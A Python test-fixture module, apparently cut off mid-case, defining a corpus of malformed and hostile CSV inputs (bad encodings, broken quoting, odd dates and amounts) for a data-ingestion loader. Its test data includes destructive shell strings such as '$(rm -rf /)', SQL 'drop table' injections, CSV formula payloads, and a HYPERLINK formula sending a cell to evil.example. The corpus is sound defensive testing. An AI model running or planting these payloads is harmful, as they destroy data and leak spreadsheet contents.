"""The bad-input corpus: every file a landing folder should never choke on, and what must happen to it.

Each :class:`Case` is a small delivery (built here in code, so binary, huge or oddly named files
never sit in the repository) with its expected outcome declared beside it:

- :class:`Rejected` — the file is refused whole with a message naming it and saying what was
  expected; nothing of it reaches any table;
- :class:`Loaded` — the file loads into ``table``: ``read`` records, of which ``loaded`` land in
  the raw table, ``quarantined`` in ``raw._quarantine`` (with a reason containing each of
  ``reasons`` and the bad rows' text containing each of ``kept``) and ``summary`` are counted
  as non-records (blank lines, vendor totals). ``values`` are SQL expressions over the loaded
  rows of that load with the result expected. ``gx`` names the Great Expectations check that
  then stops the build (``critical``) or flags the delivery (``warning``): values that are
  well-formed but implausible are the quality layer's to judge, not the loader's;
- :class:`Skipped` — by design not a delivery (a partial download, an editor's lock file).

Every expected count is written by hand from how the case builds its file, never taken from the
loader. ``tests/bad_inputs/test_corpus.py`` runs them; docs/reliability.md tabulates them.
"""

from __future__ import annotations

import codecs
import gzip
import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"

Content = bytes | str | Callable[[], bytes]


# ---------------------------------------------------------------------------------- outcomes
@dataclass(frozen=True)
class Rejected:
    says: tuple[str, ...]  # each occurs in the error message (case-insensitive)


@dataclass(frozen=True)
class Loaded:
    table: str
    read: int
    loaded: int
    quarantined: int = 0
    summary: int = 0
    reasons: tuple[str, ...] = ()  # each occurs in some quarantine reason of this load
    kept: tuple[str, ...] = ()  # each occurs in some quarantined row's text
    values: tuple[tuple[str, object], ...] = ()  # (SQL over the loaded rows, expected result)
    note: str = ""  # occurs in the manifest message
    gx: tuple[str, str] | None = None  # (expectation name, severity) that fails on this delivery


@dataclass(frozen=True)
class Skipped:
    why: str


Outcome = Rejected | Loaded | Skipped | tuple[Loaded, ...]  # a tuple: one file feeding several tables


@dataclass(frozen=True)
class Case:
    name: str
    what: str  # the bad input, in words (docs/reliability.md)
    files: dict[str, Content]  # path inside the landing folder -> bytes (or text: UTF-8)
    expect: dict[str, Outcome]  # path -> outcome; every file of the case has one
    setup: Callable[[Path, Path], None] | None = None  # (landing, a folder outside it): links, pipes
    redeliver: dict[str, Content] = field(default_factory=dict)  # written after a first ingest; ingest again


# ---------------------------------------------------------------------------------- builders
LEAD_HEADER = ["Id", "IsDeleted", "FirstName", "LastName", "Company", "Email", "Phone", "LeadSource", "Status",
               "Industry", "AnnualRevenue", "NumberOfEmployees", "OwnerId", "IsConverted", "ConvertedDate",
               "ConvertedOpportunityId", "CreatedDate"]
OPP_HEADER = ["Id", "IsDeleted", "AccountId", "Name", "StageName", "Amount", "Probability", "CloseDate", "IsClosed",
              "IsWon", "LeadSource", "OwnerId", "CurrencyIsoCode", "CreatedDate"]


def lead_id(i: int) -> str:
    return f"00Q5g00000{i:08d}"


def lead(i: int, **over: str) -> dict[str, str]:
    row = {"Id": lead_id(i), "IsDeleted": "0", "FirstName": "Ann", "LastName": f"Lee{i}", "Company": f"Acme {i}",
           "Email": f"ann.lee{i}@acme.example", "Phone": f"+1 415 555 {i % 10000:04d}", "LeadSource": "Web",
           "Status": "Open - Not Contacted", "Industry": "Technology", "AnnualRevenue": "1000000",
           "NumberOfEmployees": "50", "OwnerId": "0055g0000000001AAA", "IsConverted": "0", "ConvertedDate": "",
           "ConvertedOpportunityId": "000000000000000AAA", "CreatedDate": f"2026-01-{1 + i % 28:02d} 10:00:00"}
    row.update(over)
    return row


def opp(i: int, **over: str) -> dict[str, str]:
    row = {"Id": f"0065g00000{i:08d}", "IsDeleted": "0", "AccountId": "0015g00000000001AA", "Name": f"Deal {i}",
           "StageName": "Prospecting", "Amount": "1000", "Probability": "10", "CloseDate": "2026-03-31",
           "IsClosed": "0", "IsWon": "0", "LeadSource": "Web", "OwnerId": "0055g0000000001AAA",
           "CurrencyIsoCode": "USD", "CreatedDate": "2026-01-05 10:00:00"}
    row.update(over)
    return row


def _q(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def sf_csv(rows: list[dict[str, str]], header: list[str] = LEAD_HEADER, *, nl: str = "\r\n", sep: str = ",") -> str:
    """A Salesforce Data Export: every field quoted, CRLF line ends."""
    lines = [sep.join(_q(h) for h in header)]
    lines += [sep.join(_q(r.get(h, "")) for h in header) for r in rows]
    return nl.join(lines) + nl


def with_header(text: str, header: list[str]) -> str:
    """``text`` with its first line replaced by ``header`` (quoted, comma-separated)."""
    return ",".join(_q(h) for h in header) + "\r\n" + text.split("\r\n", 1)[1]


def leads(n: int, **over: str) -> list[dict[str, str]]:
    return [lead(i, **over) for i in range(1, n + 1)]


def two_lead_exports(root: Path) -> Path:
    """A landing folder ``root/landing`` with two Salesforce lead exports: a_Lead.csv (2 leads), b_Lead.csv (3)."""
    path = root / "landing"
    path.mkdir()
    (path / "a_Lead.csv").write_text(sf_csv(leads(2)))
    (path / "b_Lead.csv").write_text(sf_csv(leads(3)))
    return path


def xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def leads_xlsx() -> bytes:
    return xlsx([LEAD_HEADER, *([r[h] for h in LEAD_HEADER] for r in leads(3))])


def zip_of_csv() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("Lead.csv", sf_csv(leads(3)))
    return buf.getvalue()


def garbage() -> bytes:
    return random.Random(7).randbytes(4096)


def gbk_after_ascii_head() -> bytes:
    """3,000 ASCII rows (more than the 256 KB head the encoding is detected from), then 3 GBK rows."""
    rows = leads(3000) + [lead(5000 + i, Company="杭州海鑫医疗有限公司", LastName="张伟") for i in range(3)]
    return sf_csv(rows).encode("gbk")


def one_mb_cell() -> bytes:
    return sf_csv([lead(1, Company="X" * 1_000_000), lead(2)]).encode()


def wide_file() -> bytes:
    header = LEAD_HEADER + [f"Custom_{i}__c" for i in range(100_000 - len(LEAD_HEADER))]
    return sf_csv(leads(2), header).encode()


def fixture(rel: str) -> Callable[[], bytes]:
    return lambda: (FIXTURES / rel).read_bytes()


def edited_fixture(rel: str, drop_line: int) -> Callable[[], bytes]:
    def build() -> bytes:
        lines = (FIXTURES / rel).read_bytes().splitlines(keepends=True)
        del lines[drop_line]
        return b"".join(lines)
    return build


def _link(target: str, name: str) -> Callable[[Path, Path], None]:
    def setup(landing: Path, outside: Path) -> None:
        (outside / "secret.csv").write_text(sf_csv(leads(2)))
        os.symlink(target.format(outside=outside), landing / name)
    return setup


def _dir_link(landing: Path, outside: Path) -> None:
    (outside / "exports").mkdir()
    (outside / "exports" / "Lead.csv").write_text(sf_csv(leads(2)))
    os.symlink(outside / "exports", landing / "shared")


def _loop(landing: Path, outside: Path) -> None:
    os.symlink("b.csv", landing / "a.csv")
    os.symlink("a.csv", landing / "b.csv")


def _fifo(landing: Path, outside: Path) -> None:
    os.mkfifo(landing / "Lead.csv")


GBK_MAPPING = """
mapping: acme_cn
source_system: acme_cn
files:
  - name: leads
    detect: {headers: [线索编号, 姓名, 创建时间]}
    encoding: gbk
    tables:
      crm_leads:
        columns:
          lead_id: {source: 线索编号, kind: id, required: true}
          name: 姓名
          company: 公司
          created_at: {source: 创建时间, kind: timestamp}
"""
CN_ROWS = "线索编号,姓名,公司,创建时间\nL1,张伟,杭州海鑫医疗有限公司,2026-01-05 10:00:00\nL2,李娜,上海开华医疗,2026-01-06 11:00:00\n"

SEMICOLON_MAPPING = """
mapping: euro_sheet
files:
  - name: leads
    detect: {headers: [Lead-Nr, Firma, Erstellt am]}
    tables:
      crm_leads:
        columns:
          lead_id: {source: Lead-Nr, kind: id, required: true}
          company: Firma
          annual_revenue: {source: Umsatz, kind: number}
          created_at: {source: Erstellt am, kind: timestamp, formats: ["%d.%m.%Y"]}
"""

HOSTILE = '"; drop table raw.crm_leads; --'
HOSTILE_MAPPING = f"""
mapping: hostile
files:
  - name: leads
    detect: {{headers: ['{HOSTILE}', '$(rm -rf /)']}}
    tables:
      crm_leads:
        columns:
          lead_id: {{source: '{HOSTILE}', kind: id, required: true}}
          company: '$(rm -rf /)'
          created_at: {{source: '`date`', kind: timestamp}}
"""

DATES = [  # (as written, as loaded) — six families of formats plus epoch and Excel serials
    ("2026-01-05 10:00:00", datetime(2026, 1, 5, 10)),
    ("2026-01-05T10:00:00Z", datetime(2026, 1, 5, 10)),
    ("2026-01-05T18:00:00+08:00", datetime(2026, 1, 5, 10)),
    ("1/5/2026", datetime(2026, 1, 5)),
    ("2026/01/05", datetime(2026, 1, 5)),
    ("05.01.2026", datetime(2026, 1, 5)),
    ("2026年1月5日", datetime(2026, 1, 5)),
    ("January 5, 2026", datetime(2026, 1, 5)),
    ("5 Jan 2026", datetime(2026, 1, 5)),
    ("1767607200000", datetime(2026, 1, 5, 10)),
    ("46027", datetime(2026, 1, 5)),
]
BAD_DATES = ["2026-02-30 10:00:00", "13/45/2026", "yesterday", "2026-13-01", "25/01/2026"]

AMOUNTS = [("1.234,56", 1234.56), ("$1,234", 1234.0), ("¥1,234", 1234.0), ("USD 1,234.00", 1234.0),
           ("€ 1.234,56", 1234.56), ("(1,234)", -1234.0), ("1234", 1234.0)]
BAD_AMOUNTS = ["twelve", "12abc", "1,2,3,4.5.6"]

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1"]
METACHARS = [HOSTILE, "$(rm -rf /)", "`rm -rf /`", "Robert'); DROP TABLE students;--", "O'Brien \"Bob\" \\ \\n %s {0}"]
HOSTILE_HEADERS = [HOSTILE, "$(rm -rf /)", "`id`", "a'b\"c", "x\x01Id\x02y", "Email\"; --"]

HOSTILE_STAGE = "'); drop table raw.crm_leads; -- $(rm -rf /) `id`"


def hubspot_deals_with_hostile_stage() -> bytes:
    """A HubSpot deals export whose wide 'Date entered "<stage>"' header (unpivoted to rows) is hostile."""
    header = ["Record ID", "Deal Name", "Deal Stage", "Pipeline", "Amount", "Close Date", "Create Date", "Deal owner",
              "Is Closed Won", "Is Deal Closed?", f'Date entered "{HOSTILE_STAGE} (Sales Pipeline)"',
              f'Date exited "{HOSTILE_STAGE} (Sales Pipeline)"']
    rows = [["1", "D1", HOSTILE_STAGE, "Sales Pipeline", "100", "2026-02-01 10:00", "2026-01-01 10:00", "Jo", "false",
             "false", "2026-01-01 10:00", ""],
            ["2", "D2", HOSTILE_STAGE, "Sales Pipeline", "200", "2026-02-01 10:00", "2026-01-02 10:00", "Jo", "false",
             "false", "2026-01-02 10:00", "2026-01-03 10:00"]]
    return "\n".join(",".join(_q(c) for c in r) for r in [header, *rows]).encode() + b"\n"


NAMES = ['Lead "quoted" \'x\'.csv', "$(rm -rf ~).csv", "a;b`c`.csv", "x[/]y [red].csv", "线索 导出.csv", "--help.csv",
         "new\nline.csv", " leading space.csv"]


def _sorted_list(column: str) -> str:
    return f"list({column} order by _source_row)"


# ---------------------------------------------------------------------------------- the corpus
CASES: list[Case] = [
    # --- encodings
    Case("utf8_bom", "UTF-8 with BOM, accents and Chinese",
         {"Lead.csv": codecs.BOM_UTF8 + sf_csv([lead(1, LastName="Müller"), lead(2, LastName="张伟"), lead(3)]).encode()},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=((_sorted_list("name"), ["Ann Müller", "Ann 张伟", "Ann Lee3"]),))}),
    Case("utf16le_bom", "UTF-16 LE with BOM",
         {"Lead.csv": codecs.BOM_UTF16_LE + sf_csv([lead(1, LastName="Müller"), lead(2), lead(3)]).encode("utf-16-le")},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=(("min(name)", "Ann Lee2"), ("max(name)", "Ann Müller")))}),
    Case("utf16be_no_bom", "UTF-16 BE without BOM",
         {"Lead.csv": sf_csv(leads(3)).encode("utf-16-be")},
         {"Lead.csv": Loaded("crm_leads", 3, 3)}),
    Case("cp1252", "Windows-1252 (Latin accents), no declaration",
         {"Lead.csv": sf_csv([lead(1, LastName="Müller", Company="Café Ñandú"), lead(2, FirstName="José"), lead(3)]).encode("cp1252")},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=(("min(company)", "Acme 2"), ("max(company)", "Café Ñandú")))}),
    Case("gbk", "GBK (Chinese) without declaration",
         {"Lead.csv": sf_csv([lead(1, Company="杭州海鑫医疗有限公司"), lead(2, LastName="张伟")]).encode("gbk")},
         {"Lead.csv": Loaded("crm_leads", 2, 2, values=((_sorted_list("company"), ["杭州海鑫医疗有限公司", "Acme 2"]),))}),
    Case("mixed_utf8_cp1252", "UTF-8 file with one line in cp1252 (pasted from Excel)",
         {"Lead.csv": sf_csv([lead(1, LastName="张伟"), lead(3)]).encode()
          + sf_csv([lead(2, LastName="Müller")]).split("\r\n", 1)[1].encode("cp1252")},
         {"Lead.csv": Loaded("crm_leads", 3, 3, note="1 line(s) were not UTF-8 and were read as cp1252",
                             values=((_sorted_list("name"), ["Ann 张伟", "Ann Lee3", "Ann Müller"]),))}),
    Case("gbk_after_ascii_head", "ASCII for the first 256 KB (the detection window), GBK rows after",
         {"Lead.csv": gbk_after_ascii_head},
         {"Lead.csv": Loaded("crm_leads", 3003, 3003, note="3 line(s) were not UTF-8 and were read as gb18030",
                             values=(("count(*) filter (company = '杭州海鑫医疗有限公司')", 3),))}),
    Case("utf8_declared_gbk", "UTF-8 file whose mapping declares GBK",
         {"_mappings/acme_cn.yml": GBK_MAPPING, "leads_cn.csv": CN_ROWS.encode()},
         {"leads_cn.csv": Loaded("crm_leads", 2, 2, values=((_sorted_list("company"), ["杭州海鑫医疗有限公司", "上海开华医疗"]),))}),
    Case("gbk_declared_gbk", "GBK file whose mapping declares GBK",
         {"_mappings/acme_cn.yml": GBK_MAPPING, "leads_cn.csv": CN_ROWS.encode("gbk")},
         {"leads_cn.csv": Loaded("crm_leads", 2, 2, values=((_sorted_list("name"), ["张伟", "李娜"]),))}),
    Case("invalid_utf8_byte", "UTF-8 file (with Chinese) holding a stray 0xFF byte on one line",
         {"Lead.csv": sf_csv([lead(1, LastName="张伟"), lead(2)]).encode()
          + b'"00Q5g0000000000003","0","Ann","Lee\xff","Acme","","","","Open","","","","","0","","","2026-01-05 10:00:00"\r\n'},
         {"Lead.csv": Loaded("crm_leads", 3, 3, note="1 line(s) were not UTF-8 and were read as cp1252",
                             values=((_sorted_list("name"), ["Ann 张伟", "Ann Lee2", "Ann Leeÿ"]),))}),
    Case("utf16_truncated", "UTF-16 file cut in the middle of a character (odd byte count)",
         {"Lead.csv": (codecs.BOM_UTF16_LE + sf_csv(leads(3)).encode("utf-16-le"))[:-1]},
         {"Lead.csv": Rejected(("is not valid utf-16", "re-export"))}),
    Case("concatenated_exports", "two exports concatenated: a BOM and a header line in the middle",
         {"Lead.csv": sf_csv(leads(2)).encode("utf-8-sig") + sf_csv([lead(3), lead(4)]).encode("utf-8-sig")},
         {"Lead.csv": Loaded("crm_leads", 5, 4, 1, reasons=("CreatedDate 'CreatedDate' is not a valid timestamp",),
                             kept=("IsConverted",))}),
    # --- structure
    Case("truncated_last_line_in_quote", "download cut inside the last line's quotes",
         {"Lead.csv": sf_csv(leads(3)) + '"00Q5g00000000000009","0","Ann'},
         {"Lead.csv": Loaded("crm_leads", 4, 3, 1, reasons=("unterminated quote",), kept=('"00Q5g00000000000009"',))}),
    Case("truncated_last_line_fields", "download cut after a field: the last line is short",
         {"Lead.csv": sf_csv(leads(3)) + '"00Q5g00000000000009","0","Ann"\r\n'},
         {"Lead.csv": Loaded("crm_leads", 4, 3, 1, reasons=("Expected Number of Columns: 17",), kept=("00Q5g00000000000009",))}),
    Case("unterminated_quote_mid_file", "a quote opened and never closed in the middle of the file",
         {"Lead.csv": sf_csv(leads(3)).replace('"Acme 2"', '"Acme 2', 1)},
         {"Lead.csv": Loaded("crm_leads", 3, 2, 1, reasons=("unterminated quote",), kept=("Acme 2",))}),
    Case("unterminated_quote_header", "an unclosed quote in the header line (would swallow every row)",
         {"Lead.csv": sf_csv(leads(3)).replace('"CreatedDate"', '"CreatedDate","Notes', 1)},
         {"Lead.csv": Rejected(("line 1", "header line is not valid", "quote"))}),
    Case("embedded_newlines", "quoted fields holding LF, CRLF and CR line breaks",
         {"Lead.csv": sf_csv([lead(1, Company="Acme\nGmbH"), lead(2, Company="Two\r\nLines"), lead(3, Company="Old\rMac")])},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=((_sorted_list("company"), ["Acme\nGmbH", "Two\r\nLines", "Old\rMac"]),))}),
    Case("semicolon_delimited", "a Salesforce export saved with ';' as the delimiter",
         {"Lead.csv": sf_csv(leads(3), sep=";")},
         {"Lead.csv": Rejected(("no adapter recognised", "first line", "mapping"))}),
    Case("tab_delimited", "a Salesforce export saved tab-separated",
         {"Lead.csv": sf_csv(leads(3), sep="\t")},
         {"Lead.csv": Rejected(("no adapter recognised",))}),
    Case("semicolon_mapping", "';'-separated European sheet described by a mapping (delimiter sniffed)",
         {"_mappings/euro.yml": SEMICOLON_MAPPING,
          "leads_de.csv": "Lead-Nr;Firma;Umsatz;Erstellt am\nD1;Müller GmbH;1.234,56;05.01.2026\nD2;Schmidt AG;2.000,00;06.01.2026\n"},
         {"leads_de.csv": Loaded("crm_leads", 2, 2, values=((_sorted_list("annual_revenue"), [1234.56, 2000.0]),))}),
    Case("line_endings_lf", "LF line ends",
         {"Lead.csv": sf_csv(leads(3), nl="\n")}, {"Lead.csv": Loaded("crm_leads", 3, 3)}),
    Case("line_endings_cr", "old-Mac CR-only line ends",
         {"Lead.csv": sf_csv(leads(3), nl="\r")}, {"Lead.csv": Loaded("crm_leads", 3, 3)}),
    Case("line_endings_mixed", "CRLF rows, then LF rows (two exports pasted together)",
         {"Lead.csv": sf_csv(leads(2)) + sf_csv([lead(3), lead(4)], nl="\n").split("\n", 1)[1]},
         {"Lead.csv": Loaded("crm_leads", 4, 4, note="line ends were mixed")}),
    Case("header_lf_rows_crlf", "an LF header (retyped in an editor) above CRLF rows",
         {"Lead.csv": sf_csv(leads(3)).replace("\r\n", "\n", 1)},
         {"Lead.csv": Loaded("crm_leads", 3, 3, note="line ends were mixed")}),
    Case("header_only", "a header and no rows (an export of nothing)",
         {"Lead.csv": sf_csv([])}, {"Lead.csv": Loaded("crm_leads", 0, 0)}),
    Case("empty_file", "0 bytes", {"Lead.csv": b""}, {"Lead.csv": Rejected(("empty", "re-run the export"))}),
    Case("whitespace_only", "only blank lines and spaces", {"Lead.csv": "\r\n  \r\n\t\r\n"},
         {"Lead.csv": Rejected(("empty",))}),
    Case("blank_lines_between_rows", "empty lines between records (no fields: not records, nothing to keep)",
         {"Lead.csv": sf_csv(leads(3)).replace("\r\n", "\r\n\r\n", 2).replace("\r\n\r\n", "\r\n", 1) + "\r\n"},
         {"Lead.csv": Loaded("crm_leads", 3, 3)}),
    Case("blank_rows_of_empty_fields", "a spreadsheet's separator row: every field empty",
         {"Lead.csv": sf_csv(leads(2) + [{h: "" for h in LEAD_HEADER}] + [lead(3)])},
         {"Lead.csv": Loaded("crm_leads", 4, 3, 0, 1, note="1 blank row(s)")}),
    Case("extra_field_in_row", "one row with more fields than the header",
         {"Lead.csv": sf_csv(leads(3)).replace('"Acme 2",', '"Acme 2","extra",', 1)},
         {"Lead.csv": Loaded("crm_leads", 3, 2, 1, reasons=("TOO MANY COLUMNS",), kept=("extra",))}),
    Case("binary_garbage", "4 KB of random bytes named .csv", {"Lead.csv": garbage},
         {"Lead.csv": Rejected(("is not text", "expected a CSV/TSV export or XLSX"))}),
    Case("zip_renamed_csv", "a ZIP archive renamed to .csv", {"Lead.csv": zip_of_csv},
         {"Lead.csv": Rejected(("zip", "unpacked"))}),
    Case("gzip_renamed_csv", "a gzip-compressed export", {"Lead.csv.gz": lambda: gzip.compress(sf_csv(leads(3)).encode())},
         {"Lead.csv.gz": Rejected(("is not text",))}),
    Case("xlsx_renamed_csv", "an XLSX workbook renamed to .csv (read by content)", {"Lead.csv": leads_xlsx},
         {"Lead.csv": Loaded("crm_leads", 3, 3)}),
    Case("corrupt_xlsx", "an XLSX cut short (truncated ZIP)", {"Lead.xlsx": lambda: leads_xlsx()[:3000]},
         {"Lead.xlsx": Rejected(("cannot be opened as a workbook",))}),
    Case("html_error_page", "an HTML login page saved as the export",
         {"Lead.csv": "<!DOCTYPE html><html><head><title>Session expired</title></head><body>Log in</body></html>\n"},
         {"Lead.csv": Rejected(("no adapter recognised", "<!DOCTYPE html>"))}),
    Case("nul_in_header", "NUL bytes in the header line",
         {"Lead.csv": sf_csv(leads(2)).replace('"Company"', '"Com\x00\x00\x00pany"', 1)},
         {"Lead.csv": Rejected(("is not text",))}),
    Case("excel_sep_line", "Excel's 'sep=;' first line",
         {"Lead.csv": "sep=;\r\n" + sf_csv(leads(2), sep=";")},
         {"Lead.csv": Rejected(("no adapter recognised", "sep=;"))}),
    # --- columns
    Case("missing_required_column", "a Lead export without CreatedDate",
         {"Lead.csv": sf_csv(leads(3), [h for h in LEAD_HEADER if h != "CreatedDate"])},
         {"Lead.csv": Rejected(("line 1", "missing required column", "'CreatedDate'"))}),
    Case("extra_and_duplicate_columns", "unknown extra columns and Email twice",
         {"Lead.csv": sf_csv([{**lead(i), "Extra": "x", "Email_dup": "other@x.example"} for i in (1, 2, 3)],
                             LEAD_HEADER + ["Extra"]).replace('"Extra"', '"Email"', 1)},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=(("min(email)", "ann.lee1@acme.example"),))}),
    Case("reordered_columns", "the same columns in another order (Id still first)",
         {"Lead.csv": sf_csv(leads(3), ["Id"] + LEAD_HEADER[:0:-1])},
         {"Lead.csv": Loaded("crm_leads", 3, 3, values=((_sorted_list("lead_id"), [lead_id(1), lead_id(2), lead_id(3)]),
                                                        ("min(company)", "Acme 1")))}),
    Case("id_not_first", "a Salesforce export whose Id column was moved (not the Data Export layout)",
         {"Lead.csv": sf_csv(leads(3), LEAD_HEADER[1:] + ["Id"])},
         {"Lead.csv": Rejected(("no adapter recognised", "mapping"))}),
    Case("whitespace_and_case_in_headers", "header names padded with spaces and in upper case",
         {"Lead.csv": with_header(sf_csv(leads(2)), ["Id"] + [f"  {h.upper()} " for h in LEAD_HEADER[1:]])},
         {"Lead.csv": Loaded("crm_leads", 2, 2, values=(("min(email)", "ann.lee1@acme.example"),))}),
    Case("headers_in_german", "Salesforce labels exported in German",
         {"Lead.csv": sf_csv(leads(2)).replace('"Id"', '"Lead-ID"', 1).replace('"Status"', '"Lead-Status"', 1)},
         {"Lead.csv": Rejected(("no adapter recognised", "Lead-ID"))}),
    Case("google_forms_spanish", "a Google Forms sheet with a Spanish header ('Marca temporal')",
         {"Solicitud.csv": fixture("google_forms/Solicitud de demo (respuestas) - Respuestas de formulario 1.csv")},
         {"Solicitud.csv": Loaded("form_submissions", 3, 3)}),
    Case("hostile_headers", "SQL, shell, quotes and control characters in header names",
         {"Lead.csv": sf_csv([{**lead(i), **{h: f"v{i}" for h in HOSTILE_HEADERS}} for i in (1, 2)], LEAD_HEADER + HOSTILE_HEADERS)},
         {"Lead.csv": Loaded("crm_leads", 2, 2)}),
    Case("hostile_headers_in_mapping", "a mapping whose source columns are SQL/shell text",
         {"_mappings/hostile.yml": HOSTILE_MAPPING,
          "h.csv": sf_csv([{HOSTILE: "H1", "$(rm -rf /)": "Evil; Corp", "`date`": "2026-01-05"}], [HOSTILE, "$(rm -rf /)", "`date`"])},
         {"h.csv": Loaded("crm_leads", 1, 1, values=(("min(lead_id)", "H1"), ("min(company)", "Evil; Corp")))}),
    Case("hostile_unpivoted_header", "a HubSpot 'Date entered \"<stage>\"' column whose stage is SQL/shell text",
         {"deals.csv": hubspot_deals_with_hostile_stage},
         {"deals.csv": (Loaded("crm_opportunities", 2, 2, values=(("min(stage)", HOSTILE_STAGE),)),
                        Loaded("crm_stage_history", 2, 2, values=(("min(stage)", HOSTILE_STAGE), ("count(exited_at)", 1))))}),
    Case("wide_100k_columns", "100,000 columns", {"Lead.csv": wide_file},
         {"Lead.csv": Rejected(("100,000 columns", "16,384"))}),
    # --- values
    Case("dates_many_formats", "CreatedDate in 11 spellings (ISO, ISO+zone, US, Y/M/D, D.M.Y, 年月日, month names, epoch ms, Excel)",
         {"Lead.csv": sf_csv([lead(i, CreatedDate=text) for i, (text, _) in enumerate(DATES, 1)])},
         {"Lead.csv": Loaded("crm_leads", len(DATES), len(DATES),
                             values=((_sorted_list("created_at"), [when for _, when in DATES]),))}),
    Case("invalid_dates", "Feb 30, month 13, '13/45/2026', 'yesterday', day-first '25/01/2026'",
         {"Lead.csv": sf_csv([lead(1)] + [lead(i, CreatedDate=d) for i, d in enumerate(BAD_DATES, 2)])},
         {"Lead.csv": Loaded("crm_leads", 1 + len(BAD_DATES), 1, len(BAD_DATES),
                             reasons=("CreatedDate '2026-02-30 10:00:00' is not a valid timestamp",
                                      "CreatedDate '25/01/2026' is not a valid timestamp"), kept=tuple(BAD_DATES))}),
    Case("amount_formats", "amounts as 1.234,56 / $1,234 / ¥1,234 / USD 1,234.00 / € 1.234,56 / (1,234)",
         {"Opportunity.csv": sf_csv([opp(i, Amount=a) for i, (a, _) in enumerate(AMOUNTS, 1)], OPP_HEADER)},
         {"Opportunity.csv": Loaded("crm_opportunities", len(AMOUNTS), len(AMOUNTS),
                                    values=((_sorted_list("amount"), [v for _, v in AMOUNTS]),),
                                    gx=("amount_non_negative", "critical"))}),  # (1,234) is negative
    Case("amount_text", "amounts that are words or broken numbers",
         {"Opportunity.csv": sf_csv([opp(1)] + [opp(i, Amount=a) for i, a in enumerate(BAD_AMOUNTS, 2)], OPP_HEADER)},
         {"Opportunity.csv": Loaded("crm_opportunities", 4, 1, 3, reasons=("Amount 'twelve' is not a valid number",),
                                    kept=tuple(BAD_AMOUNTS))}),
    Case("negative_amounts", "a negative amount",
         {"Opportunity.csv": sf_csv([opp(1), opp(2, Amount="-5000")], OPP_HEADER)},
         {"Opportunity.csv": Loaded("crm_opportunities", 2, 2, values=(("min(amount)", -5000.0),),
                                    gx=("amount_non_negative", "critical"))}),
    Case("probability_over_100", "win probability 150 and '250%'",
         {"Opportunity.csv": sf_csv([opp(1), opp(2, Probability="150"), opp(3, Probability="250%")], OPP_HEADER)},
         {"Opportunity.csv": Loaded("crm_opportunities", 3, 3, values=(("max(probability)", 250.0),),
                                    gx=("probability_between_0_and_100", "critical"))}),
    Case("future_dates", "a lead created in 2099",
         {"Lead.csv": sf_csv([lead(1), lead(2, CreatedDate="2099-01-01 00:00:00")])},
         {"Lead.csv": Loaded("crm_leads", 2, 2, gx=("created_at_in_date_range", "critical"))}),
    Case("unknown_stage", "a stage no mapping knows ('Verhandlung läuft')",
         {"Opportunity.csv": sf_csv([opp(1), opp(2, StageName="Verhandlung läuft")], OPP_HEADER)},
         {"Opportunity.csv": Loaded("crm_opportunities", 2, 2, gx=("stage_in_stage_mapping", "warning"))}),
    Case("bad_integers_bools_empty_ids", "employees '12.5' and 1e20, IsConverted 'maybe', an empty Id",
         {"Lead.csv": sf_csv([lead(1), lead(2, NumberOfEmployees="12.5"), lead(3, NumberOfEmployees="99999999999999999999"),
                              lead(4, IsConverted="maybe"), lead(5, Id="")])},
         {"Lead.csv": Loaded("crm_leads", 5, 1, 4, reasons=("NumberOfEmployees '12.5' is not a valid integer",
                                                             "IsConverted 'maybe' is not a valid bool", "Id is empty"))}),
    Case("duplicate_ids_within_delivery", "the same lead id twice in one file",
         {"Lead.csv": sf_csv([lead(1), lead(2), lead(2, Company="Acme 2 (edited)")])},
         {"Lead.csv": Loaded("crm_leads", 3, 3, gx=("lead_id_unique_within_delivery", "critical"))}),
    Case("duplicate_ids_across_deliveries", "the same lead in two files (staging keeps the newest version)",
         {"Lead.csv": sf_csv(leads(2)), "Lead (1).csv": sf_csv([lead(2, Company="Acme 2 (new)"), lead(3)])},
         {"Lead.csv": Loaded("crm_leads", 2, 2), "Lead (1).csv": Loaded("crm_leads", 2, 2)}),
    Case("corrected_redelivery", "a corrected file at the same path replaces its first version",
         {"Lead.csv": sf_csv(leads(3))},
         {"Lead.csv": Loaded("crm_leads", 4, 4, values=(("max(company)", "Acme 4"),))},
         redeliver={"Lead.csv": sf_csv(leads(4))}),
    Case("one_mb_cell", "a 1 MB Company cell", {"Lead.csv": one_mb_cell},
         {"Lead.csv": Loaded("crm_leads", 2, 2, values=(("max(length(company))", 1_000_000),))}),
    Case("spreadsheet_formulas", "=HYPERLINK, +cmd, @SUM, -2+3 in text fields (kept as text, never evaluated)",
         {"Lead.csv": sf_csv([lead(i, Company=f) for i, f in enumerate(FORMULAS, 1)])},
         {"Lead.csv": Loaded("crm_leads", len(FORMULAS), len(FORMULAS), values=((_sorted_list("company"), FORMULAS),))}),
    Case("sql_and_shell_in_values", "SQL, shell and quote characters in values",
         {"Lead.csv": sf_csv([lead(i, Company=v) for i, v in enumerate(METACHARS, 1)])},
         {"Lead.csv": Loaded("crm_leads", len(METACHARS), len(METACHARS), values=((_sorted_list("company"), METACHARS),))}),
    Case("google_ads_total_mismatch", "a Google Ads report with one campaign row missing (truncated download)",
         {"campaign_report.csv": edited_fixture("google_ads/campaign_report.csv", 4)},
         {"campaign_report.csv": Rejected(("add up to", "Total: Campaigns", "incomplete or edited"))}),
    Case("salesforce_report_count_mismatch", "a Salesforce report with a row deleted",
         {"pipeline_by_owner.csv": edited_fixture("salesforce_report/pipeline_by_owner.csv", 9)},
         {"pipeline_by_owner.csv": Rejected(("incomplete or edited",))}),
    # --- file names and the file system
    Case("hostile_file_names", "quotes, $(…), backticks, Rich markup, a newline, Chinese in file names",
